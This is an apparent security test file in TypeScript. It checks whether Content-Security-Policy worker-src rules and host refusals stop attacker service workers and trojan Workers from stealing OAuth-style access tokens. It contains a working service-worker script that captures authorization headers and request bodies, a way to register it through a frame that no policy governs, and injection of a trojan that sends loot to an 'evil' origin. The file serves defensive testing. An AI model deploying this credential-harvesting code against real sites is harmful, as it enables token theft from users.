// Attacks: Workers of the attacker: in place of the one that would hold the tokens, or between the page and the network.
import * as step from '../browser/fixtures.ts'
import { bundleScript } from '../browser/servers/bundle.ts'
import { startFront, type Front } from '../browser/servers/front.ts'
import { attack, type Stage } from './attack.ts'
import { choose, kindOf, levels, realmOf, type Level } from './levels.ts'
import { worthOf } from './loot.ts'
import type { Outcome } from './row.ts'

const { expect } = step

/** Notes what passes, in which body too, and gives it to whoever asks for /loot. */
const eavesdropper = `
  const loot = []
  addEventListener('install', () => skipWaiting())
  addEventListener('activate', (event) => event.waitUntil(clients.claim()))
  addEventListener('fetch', (event) => {
    const { request } = event
    if (new URL(request.url).pathname === '/loot') {
      return event.respondWith(Promise.all(loot).then((all) => Response.json(all)))
    }
    loot.push(request.headers.get('authorization') ?? '', request.clone().text())
  })`

/** How the script gets the browser to take its service worker: from the page, or from a frame that no policy governs. */
function register(tab: step.Tab, from: 'page' | 'frame'): Promise<string> {
  return tab.evaluate(async (where) => {
    const { serviceWorker } = navigator
    const controlled = new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve))
    let realm: Window = window
    if (where === 'frame') {
      const frame = Object.assign(document.createElement('iframe'), { src: '/no-policy.html' })
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await loaded
      realm = frame.contentWindow ?? window
    }
    try {
      await realm.navigator.serviceWorker.register('/eavesdropper.js')
    } catch (error) {
      return (error as Error).name
    }
    await controlled
    return 'in control'
  }, from)
}

type Hosting = { from: 'page' | 'frame'; policy?: (origin: string) => string; refuses?: boolean }

/** Puts what the host does before the app: a policy on the app's own pages, a refusal of service worker scripts. */
function host(front: Front, { policy, refuses = false }: Hosting): void {
  front.middleware = async ({ request, next }) => {
    if (refuses && request.headers.get('service-worker') === 'script')
      return new Response('', { status: 403 })
    const response = await next()
    const headers = new Headers(response.headers)
    if (policy && !request.url.endsWith('/no-policy.html'))
      headers.set('content-security-policy', policy(front.origin))
    return new Response(await response.text(), { headers })
  }
}

/** Signs in, lets the service worker in, and calls and renews under its eyes. */
async function eavesdrop(stage: Stage, hosting: Hosting): Promise<Outcome> {
  const { api, app, op, tab } = stage
  app.serve('/eavesdropper.js', eavesdropper)
  app.serve('/no-policy.html', '<!doctype html><title>nothing</title>')
  const front = await startFront(app.origin)
  try {
    host(front, hosting)
    await tab.goto(`${front.origin}/`)
    await step.outcome(tab)
    expect(await step.signIn(tab)).toMatchObject({ status: 'signed-in' })
    if ((await register(tab, hosting.from)) !== 'in control') return 'stopped'
    op.forgetAccessTokens()
    expect(await step.callApi(tab, `${api.origin}/orders`)).toMatchObject({ status: 200 })
    const texts = await tab.evaluate(async () => (await (await fetch('/loot')).json()) as string[])
    return await worthOf(texts, stage)
  } finally {
    await front.close()
  }
}

/** Nobody else's Worker; all else is allowed here. */
const exactWorker = (origin: string) =>
  `default-src * 'unsafe-inline'; worker-src ${origin}/claimcheck/worker.js`

const cases: [name: string, hosting: Hosting, expected: 'heard' | 'stopped'][] = [
  ['service worker of the attacker, registered by the page', { from: 'page' }, 'heard'],
  [
    'service worker of the attacker, registered by the page, worker-src exact',
    { from: 'page', policy: exactWorker },
    'stopped',
  ],
  [
    'service worker of the attacker, registered by a frame without policy, worker-src exact',
    { from: 'frame', policy: exactWorker },
    'heard',
  ],
  [
    'service worker of the attacker, registered by a frame, host refuses Service-Worker: script',
    { from: 'frame', refuses: true },
    'stopped',
  ],
]

for (const [name, hosting, expected] of cases) {
  attack({
    id: 'X-16',
    name,
    expected({ level }) {
      if (expected === 'stopped') return 'stopped'
      return kindOf(level) === 'dpop' ? 'bound to a key' : 'not stopped'
    },
    run: (stage) => eavesdrop(stage, hosting),
    control(stage) {
      choose('page bearer', stage)
      return eavesdrop(stage, { from: 'page' })
    },
  })
}

const apart: Level[] = levels.filter((level) => realmOf(level) === 'worker')

/** Signs in while Workers are trojans, as far as the page's policy lets them start, and calls. */
async function replaceWorker(stage: Stage, policy: string): Promise<Outcome> {
  const { api, app, evil, op, tab } = stage
  app.headers['content-security-policy'] = policy
  const script = await bundleScript('../../attack/app/trojan.ts')
  app.early(`window.lair = '${evil.origin}/loot'; (() => {${script}})()`)
  await step.openSignedIn(tab)
  op.forgetAccessTokens()
  await step.callApi(tab, `${api.origin}/orders`)
  return worthOf(
    evil.log.map(({ body }) => body),
    stage,
  )
}

const noPolicy = "default-src * blob: 'unsafe-inline'"

attack({
  id: 'X-15',
  name: 'another Worker in place of the one for the tokens, page without policy',
  timings: ['early'],
  levels: apart,
  expected: 'not stopped',
  run: (stage) => replaceWorker(stage, noPolicy),
  control: (stage) => replaceWorker(stage, noPolicy),
})

attack({
  id: 'X-15',
  name: 'another Worker in place of the one for the tokens, worker-src exact',
  timings: ['early'],
  levels: apart,
  expected: 'stopped',
  run: (stage) => replaceWorker(stage, exactWorker(stage.app.origin)),
  control(stage) {
    choose('worker bearer', stage)
    return replaceWorker(stage, noPolicy)
  },
})
